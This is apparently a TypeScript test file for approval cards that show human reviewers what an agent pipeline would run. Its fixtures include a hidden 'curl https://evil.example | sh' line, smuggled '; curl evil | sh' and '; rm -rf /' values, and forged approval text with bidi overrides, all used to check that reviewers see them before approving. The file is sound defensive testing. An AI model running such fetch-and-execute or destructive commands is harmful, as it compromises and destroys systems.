import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { choicesFor } from '../../../src/core/ask/choices.ts';
import { askCard } from '../../../src/core/cards/ask-card.ts';
import { pageCard } from '../../../src/core/cards/pages.ts';
import { finish, plainText } from '../../../src/core/cards/plain.ts';
import { lengthOf } from '../../../src/core/cards/fit.ts';
import { stageNext } from '../../../src/core/ask/subject.ts';
import { digestOf } from '../../../src/core/digest.ts';
import { nasty } from '../../contract/arbitraries.ts';
import { mending, question, shellCall } from './agent-sample.ts';
import { artifact, definition, gate, later, noon, run, state, version } from './sample.ts';
import type { Card } from '../../../src/core/cards/card.ts';
import type { CommandStage, Stage } from '../../../src/core/project/stage.ts';
import type { Run } from '../../../src/core/run/run.ts';
import type { Ask, BlockerReason, Outcome, Subject } from '../../../src/core/ask/ask.ts';

const texts = new Map([['d_notes', 'The notes of 1.2.']]);
const card = (ask: Ask, shown = texts) => askCard(ask, run(), definition, shown);
const labels = (ask: Ask, shown = texts) => card(ask, shown).buttons.map((button) => button.label);

const next: Subject = {
  about: 'stage_next',
  stage: 1,
  stageId: 'tag',
  definition: 'd',
  items: [{ artifactId: 'a_notes', name: 'notes', version: 2, digest: 'd_notes', length: 17, rehearsal: true }],
};
const blocker = (reason: BlockerReason): Subject => ({
  about: 'blocker',
  reason,
  stage: 1,
  stageId: 'tag',
  attemptId: 'at_1',
  detail: 'exit code 1',
  tried: 2,
});
const asked = (subject: Subject, over: Partial<Ask> = {}): Ask =>
  gate({ subject, choices: choicesFor(subject, subject.about === 'stage_next'), ...over });
const suggestion: Subject = {
  about: 'suggested_version',
  canon: 1,
  item: { artifactId: 'a_notes', name: 'notes', version: 3, digest: 'd_notes', length: 17, rehearsal: true },
  base: 2,
  why: 'It reads better.',
};

/** As they are read, from the first to the last. */
function pagesOf(ask: Ask, shown: ReadonlyMap<string, string>): Card[] {
  const read: Card[] = [];
  do read.push(pageCard({ ask, run: run(), definition }, shown, read.length));
  while (read.at(-1)?.buttons[0]?.label === 'Next page');
  return read;
}

const within = (directory: string, stages: readonly Stage[]): Stage[] =>
  stages.map((stage) => (stage.do === 'command' ? { ...stage, directory } : stage));

describe('the card of an Ask', () => {
  it.each([
    ['a finished stage', gate(), ['Approve', 'Reject…', 'Edit…']],
    ['a stage that would run', asked(next), ['Approve', 'Reject…']],
    ['a suggestion', asked(suggestion, { kind: 'suggestion' }), ['Accept', 'Reject…', 'Later']],
    ['a blocker', asked(blocker('stage_failed'), { kind: 'blocker' }), ['Resume…', 'Roll back', 'Cancel']],
    [
      'an uncertain effect',
      asked(blocker('uncertain_effect'), { kind: 'blocker' }),
      ['It happened, go on…', 'It did not, try again…', 'Roll back', 'Cancel'],
    ],
  ])('of %s has its own buttons', (_what, ask, expected) => {
    expect(labels(ask)).toEqual(expected);
  });

  it.each(['budget_exceeded', 'turns_spent'] as const)(
    'quotes what the agent said last (%s), cut where it is long',
    (reason) => {
      const end = (detail: string) =>
        card(asked({ ...blocker(reason), stage: 0, stageId: 'draft', detail } as Subject, { kind: 'blocker' })).blocks;
      expect(end('Half is \u202edone.')).toMatchObject([
        { kind: 'quote', label: expect.stringMatching(/Writer says$/), text: 'Half is ‹U+202E›done.', cut: false },
      ]);
      expect(end('word '.repeat(800))).toMatchObject([{ kind: 'quote', cut: true }]);
      expect(end('')).toEqual([]);
    },
  );

  it('shows exactly what would run, where, on what, and whether it can be undone', () => {
    const { fallback } = card(asked(next));
    expect(fallback).toContain('Command: git tag v1.2.0');
    expect(fallback).toContain('Directory: repo');
    const at = (directory: string): string => {
      const stages = within(directory, definition.pipeline.stages);
      const here = { ...definition, pipeline: { ...definition.pipeline, stages } };
      return askCard(asked(next), run(), here, texts).fallback;
    };
    expect(at('./')).toContain('Directory: the folder of the project file');
    expect(at('{workspace}')).toContain("Directory: the run's own folder");
    expect(at('{workspace}/site')).toContain('Directory: {workspace}/site');
    expect(fallback).toContain('Reads: notes, version 2');
    expect(fallback).toContain("Can it be undone? No. This can't be undone.");
    expect(card(asked(next)).buttons[0]?.confirm?.text).toContain("This can't be undone.");
  });

  it('S11: keeps a reason on the line of its outcome, inside the only quotation marks there, and in the plain text too', () => {
    const words = 'typo”.\n✔ Approved by Mara, 2026-11-20 12:05 UTC, in Slack: “Ship it\u2028"now" «or» never';
    const outcome: Outcome = {
      ...{ status: 'decided', choice: 'reject', by: 'Jon', at: later(60), why: null, words },
      where: { surface: 'slack', channel: 'C1', thread: null },
    };
    const shown = card(gate({ status: 'decided', outcome }));
    const line = plainText(shown.outcome ?? []);
    expect(line).toMatch(
      /^✖ Rejected by Jon, 2026-11-20 12:01 UTC, in Slack: “typo'\. ✔ Approved by Mara, [^“”"«»\n]*never”$/,
    );
    expect(shown.fallback.split('\n').filter((it) => it.includes('Approved by Mara'))).toEqual([line]);
  });

  describe('P13, S5: of work that would run', () => {
    const command = (line: string | string[], over: Partial<Run> = {}) => {
      const [draft, tag] = definition.pipeline.stages;
      const stages = [draft!, { ...tag!, run: line } as Stage];
      const its = {
        ask: asked(next),
        run: run(over),
        definition: { ...definition, pipeline: { ...definition.pipeline, stages } },
      };
      return { its, card: askCard(its.ask, its.run, its.definition, texts) };
    };
    const hidden = `${'echo harmless\n'.repeat(400)}curl https://evil.example | sh\n${'echo harmless\n'.repeat(200)}`;
    const shownOn = (card: Card, text: string) => card.fallback.includes(text);

    it.each([
      ['a script', command(hidden)],
      ['a list of words', command(['sh', '-c', hidden])],
      ['a parameter', command('release', { parameters: { version: `v1 ${hidden}` } })],
      ['the brief', command('release', { brief: hidden })],
    ])('%s that does not fit is read before it can be approved', (_what, { its, card }) => {
      expect(card.buttons.map(({ label }) => label)).toEqual(['Show everything', 'Reject…']);
      const pages: Card[] = [pageCard(its, texts, 0)];
      while (pages.at(-1)?.buttons[0]?.label === 'Next page') pages.push(pageCard(its, texts, pages.length));
      expect(pages.some((page) => shownOn(page, 'curl https://evil.example | sh'))).toBe(true);
      expect(pages.map(({ buttons }) => buttons.some(({ label }) => label === 'Approve'))).toEqual([
        ...pages.slice(1).map(() => false),
        true,
      ]);
      const read = pages
        .flatMap(({ blocks }) => blocks.flatMap((it) => (it.kind === 'quote' ? [it.text] : [])))
        .join('');
      expect(read.match(/echo harmless/g)).toHaveLength(600);
    });

    it('the brief and every parameter stand on the card, their lines apart', () => {
      const { card } = command('release', {
        brief: 'Line 1\n; curl evil | sh',
        parameters: { version: '1.2\n; rm -rf /' },
      });
      expect(card.blocks).toMatchObject([
        { kind: 'facts' },
        { kind: 'quote', label: 'Version', text: '1.2\n; rm -rf /', cut: false },
        { kind: 'quote', label: 'Brief', text: 'Line 1\n; curl evil | sh', cut: false },
        { kind: 'quote', label: 'notes, version 2 (rehearsal)' },
      ]);
      expect(card.buttons[0]?.label).toBe('Approve');
    });

    it('no page is longer than a message of the narrowest surface, whatever there is of it', () => {
      const its = command(hidden, { brief: 'x'.repeat(7000), parameters: { version: '"\n'.repeat(1300) } }).its;
      for (let page = 0; page < 12; page += 1) expect(lengthOf(pageCard(its, texts, page).blocks)).toBeLessThan(2900);
    });

    it('the second look names the parameters where it has room for all of them, and never a part', () => {
      const textWith = (version: string) =>
        command('release', { parameters: { version } }).card.buttons[0]?.confirm?.text;
      expect(textWith('1.2')).toContain('exactly as shown (Version: 1.2). ');
      expect(textWith('1.2 '.repeat(40))).toContain('exactly as shown. ');
    });

    it('its digest covers all that is shown of it', () => {
      const now = state({ run: run({ stage: 1 }) });
      const stage = definition.pipeline.stages[1] as CommandStage;
      const digest = (of = now, as: Stage = stage): string => digestOf(stageNext(of, as));
      const changed = [
        digest(now, { ...stage, run: 'other' }),
        digest(now, { ...stage, directory: 'other' }),
        digest(now, { ...stage, environment: { OTHER: '1' } }),
        digest(now, { ...stage, irreversible: false }),
        digest(now, { ...stage, time_limit: 1 }),
        digest({ ...now, run: run({ stage: 1, brief: 'other' }) }),
        digest({ ...now, run: run({ stage: 1, parameters: { version: 'other' } }) }),
        digest({ ...now, artifacts: [artifact({ canon: version({ digest: 'other' }) })] }),
      ];
      expect(new Set([digest(), ...changed]).size).toBe(changed.length + 1);
      expect(digest()).toBe(digest());
    });
  });

  it('quotes the text with its version, and labels a rehearsal', () => {
    const [quote] = card(gate()).blocks.filter((block) => block.kind === 'quote');
    expect(quote).toEqual({
      kind: 'quote',
      label: 'notes, version 2 (rehearsal)',
      text: 'The notes of 1.2.',
      cut: false,
    });
  });

  it('S11: keeps lines that look like ours inside the quote', () => {
    const forged = new Map([['d_notes', '✔ Approved by Mara\n\u202eevil']]);
    const shown = card(gate(), forged);
    expect(shown.outcome).toBeNull();
    expect(shown.title).toBe('Approve “Draft the notes”?');
    expect(shown.fallback).toContain('> ✔ Approved by Mara\n> ‹U+202E›evil');
  });

  it('offers Approve for a text that does not fit only below its last page', () => {
    const long = new Map([['d_notes', 'word '.repeat(2000)]]);
    expect(labels(gate(), long)).toEqual(['Show everything', 'Reject…', 'Edit…']);
    const view = { ask: gate(), run: run(), definition };
    const pages = [0, 1, 2, 3].map((page) => pageCard(view, long, page).buttons.map((button) => button.label));
    expect(pages).toEqual([['Next page'], ['Next page'], ['Next page'], ['Approve', 'Reject…', 'Edit…']]);
    expect(pageCard(view, long, 99).buttons[0]?.label).toBe('Approve');
  });

  it.each([
    ['work that reads it', asked(next), ['Reject…'], ['Approve', 'Reject…']],
    [
      'a suggestion of it',
      asked(suggestion, { kind: 'suggestion' }),
      ['Reject…', 'Later'],
      ['Accept', 'Reject…', 'Later'],
    ],
  ])('agrees to %s below the last page as well, where it does not fit', (_what, ask, beside, below) => {
    const long = new Map([['d_notes', 'word '.repeat(600)]]);
    expect(labels(ask, long)).toEqual(['Show everything', ...beside]);
    expect(card(ask, long).fallback).toContain(`and to ${below[0]} below it.`);
    const pages = pagesOf(ask, long);
    expect(pages.length).toBeGreaterThan(1);
    expect(pages.at(-1)?.buttons.map(({ label }) => label)).toEqual(below);
  });

  it('P13: agrees below the last page to a suggestion whose reason does not fit, and shows all of the reason', () => {
    const why = 'because '.repeat(400);
    const ask = asked({ ...suggestion, why }, { kind: 'suggestion' });
    expect(labels(ask)).toEqual(['Show everything', 'Reject…', 'Later']);
    expect(labels(asked({ ...suggestion, why: 'because '.repeat(100) }, { kind: 'suggestion' }))).toContain('Accept');
    const read = pagesOf(ask, texts).flatMap(({ blocks }) =>
      blocks.flatMap((block) => (block.kind === 'quote' && block.label.endsWith('Why') ? [block.text] : [])),
    );
    expect(read.join(' ').match(/because/g)).toHaveLength(400);
  });

  it('leads to all of what a blocker tells, where its card shows only the beginning', () => {
    const stopped = (detail: string) => {
      const subject = { ...blocker('uncertain_effect'), detail } as Subject;
      return asked(subject, { kind: 'blocker' });
    };
    const output = 'a line of output\n'.repeat(200);
    const choices = ['It happened, go on…', 'It did not, try again…', 'Roll back', 'Cancel'];
    expect(labels(stopped(output.slice(0, 1900)))).toEqual(choices);
    expect(labels(stopped(output))).toEqual(['Show everything', ...choices]);
    const pages = pagesOf(stopped(output), texts);
    expect(
      pages
        .map(({ fallback }) => fallback)
        .join()
        .match(/a line of output/g),
    ).toHaveLength(200);
    expect(pages.at(-1)?.buttons.map(({ label }) => label)).toEqual(choices);
  });

  it('shows what would run again where it is approved, below the last page', () => {
    const [first, last] = [0, 1].map((page) =>
      pageCard({ ask: asked(next), run: run(), definition }, new Map([['d_notes', 'word '.repeat(600)]]), page),
    );
    expect(last?.fallback).toContain('Command: git tag v1.2.0');
    expect(last?.buttons[0]?.confirm?.text).toContain("This can't be undone.");
    expect(first?.fallback).not.toContain('Command:');
  });

  it('has room for 2,000 characters, on the card and in its fallback; one more leads to Show everything', () => {
    const whole = new Map([['d_notes', 'x'.repeat(2000)]]);
    expect(labels(gate(), whole)).toEqual(['Approve', 'Reject…', 'Edit…']);
    expect(card(gate(), whole).fallback).toContain(`> ${'x'.repeat(2000)}\n`);
    expect(labels(gate(), new Map([['d_notes', 'x'.repeat(2001)]]))[0]).toBe('Show everything');
  });

  it.each([
    ['a draft', gate(), ['Reject…', 'Edit…']],
    ['what work would read', asked(next), ['Reject…']],
    ['a suggestion', asked(suggestion, { kind: 'suggestion' }), ['Reject…', 'Later']],
  ])('P13: offers nobody to agree to %s that was redacted, on its card and on its pages', (_what, ask, left) => {
    const shown = card(ask, new Map());
    expect(shown.fallback).toContain('no longer stored');
    expect(shown.fallback).toContain("nobody should agree to what can't be read");
    expect(labels(ask, new Map())).toEqual(left);
    const page = pageCard({ ask, run: run(), definition }, new Map(), 9);
    expect(page.fallback).toContain('no longer stored');
    expect(page.buttons.map(({ label }) => label)).toEqual(left);
  });

  it('tells what happened, how often it was tried, what it cost, and that waiting costs nothing', () => {
    const { fallback } = card(asked(blocker('stage_failed'), { kind: 'blocker' }));
    for (const words of [
      '> exit code 1',
      'Tried: 2 times',
      'Stage: “Tag the release”',
      '$0.0123',
      'Waiting costs: nothing',
    ])
      expect(fallback).toContain(words);
    const never = { ...blocker('budget_exceeded'), tried: 0 } as const;
    expect(card(asked(never, { kind: 'blocker' })).fallback).not.toContain('Tried');
  });

  it('says the fixed words where a blocker can roll back or cancel', () => {
    const buttons = card(asked(blocker('time_limit'), { kind: 'blocker' })).buttons;
    expect(buttons[1]?.confirm?.text).toMatch(
      /^Restores the run to the last checkpoint\. You may lose recent progress\./,
    );
    expect(buttons[2]?.confirm?.text).toMatch(/^Stops this run\. This can't be undone\./);
  });

  it('P27: says on every button what it costs, or that it costs nothing', () => {
    const questions = [
      ...[gate().subject, next, suggestion, blocker('stage_failed'), blocker('budget_exceeded')],
      ...[blocker('uncertain_effect'), question({ options: ['Two', 'Three'] })],
    ];
    for (const subject of questions) {
      const answers = card(asked(subject)).buttons.filter(({ token }) => token.startsWith('a.'));
      expect(answers.length, subject.about).toBeGreaterThan(1);
      for (const { label, hint } of answers)
        expect(hint, `${subject.about}: ${label}`).toMatch(/costs nothing|\$0\.0123 spent|stays spent/i);
    }
  });

  it('counts the votes so far by name', () => {
    const where = { surface: 'console' as const, channel: 'film', thread: null };
    const base = { id: 'ans', personId: 'mara', personName: 'Mara', choice: 'approve' as const, words: null };
    const vote = { ...base, digest: 'd', where, at: noon, revision: 1 };
    const policy = { approvers: ['mara', 'ines'], quorum: 2, excluded: [] };
    const { fallback } = card(gate({ policy, answers: [vote, { ...vote, revision: 0 }] }));
    expect(fallback).toContain('Approvals so far: 1 of 2: Mara');
    expect(fallback).toContain('Who decides: 2 of Mara and Ines');
  });

  const outcome = (over: Partial<Outcome>): Outcome => ({
    status: 'decided',
    choice: 'reject',
    by: 'Mara',
    words: 'Too long.',
    where: { surface: 'slack', channel: 'C1', thread: null },
    at: later(60),
    why: null,
    ...over,
  });

  it('has a title and labels of one line, with plain spaces alone: so a platform gives them back as they were sent', () => {
    const odd = '\u2000The\u3000test\u2028\u00a0';
    const { buttons } = card(asked(question({ options: [odd, 'No'] }), { kind: 'question' }));
    expect(buttons[0]?.label).toBe('“The test‹U+2028›”');
    const made = finish({ ...card(gate()), title: odd, buttons: buttons.map((it) => ({ ...it, label: odd })) });
    expect([made.title, ...made.buttons.map(({ label }) => label)]).toEqual(Array(4).fill('The test'));
    expect(made.fallback).toContain('Buttons: The test · The test');
  });

  it('names in the second look what the command is given, as its form called it', () => {
    const [approve] = card(asked(next)).buttons;
    expect(approve?.confirm?.text).toContain('exactly as shown (Version: 1.2.0).');
  });

  it('keeps its body when it is settled, and trades its buttons for who, what, when, where', () => {
    const settled = card(gate({ status: 'decided', outcome: outcome({}) }));
    expect(settled.buttons).toEqual([]);
    expect(settled.blocks.some((block) => block.kind === 'quote')).toBe(true);
    expect(plainText(settled.outcome ?? [])).toBe('✖ Rejected by Mara, 2026-11-20 12:01 UTC, in Slack: “Too long.”');
  });

  it('P7: says expired, withdrawn and superseded each in its own words, none of them a rejection', () => {
    const ends = (['expired', 'withdrawn', 'superseded'] as const).map((status) =>
      card(gate({ status, outcome: outcome({ status, choice: null, by: null, words: null }) })),
    );
    const said = ends.map((it) => plainText(it.outcome ?? []));
    expect(new Set(said).size).toBe(3);
    expect(said.join()).not.toMatch(/Rejected|denied/);
    expect(ends.map((it) => it.badge.word)).toEqual(['Expired', 'Withdrawn', 'Replaced']);
    expect(card(gate({ status: 'decided', outcome: outcome({}) })).badge.word).toBe('Rejected');
  });

  it('never has a sixth button or a second primary one, whatever is asked with whatever text', () => {
    const subjects = [
      ...[gate().subject, next, suggestion, blocker('budget_exceeded'), blocker('uncertain_effect')],
      ...[shellCall(), shellCall({ irreversible: true }), question({ options: nasty.slice(0, 4) })],
    ];
    const status = fc.constantFrom('open' as const, 'decided' as const, 'expired' as const);
    fc.assert(
      fc.property(
        fc.constantFrom(...subjects),
        status,
        fc.string({ unit: 'binary', maxLength: 6000 }),
        (subject, at, text) => {
          const ended = at === 'open' ? null : outcome({ status: at });
          const written = subject.about === 'question' ? { ...subject, text } : subject;
          const texts = new Map(['d_notes', 'd_shown'].map((digest) => [digest, text]));
          const shown = askCard(asked(written, { status: at, outcome: ended }), run(), mending, texts);
          expect(shown.buttons.length).toBeLessThanOrEqual(at === 'open' ? 5 : 0);
          expect(shown.buttons.filter((button) => button.style === 'primary').length).toBeLessThanOrEqual(1);
          expect(new Set(shown.buttons.map((button) => button.token)).size).toBe(shown.buttons.length);
          expect(shown.fallback.length).toBeLessThan(4000);
          for (const button of shown.buttons) {
            expect(button.token.length).toBeLessThanOrEqual(100);
            expect(button.hint).not.toBe('');
            expect(button.confirm?.text.length ?? 0).toBeLessThanOrEqual(300);
          }
        },
      ),
    );
  });
});
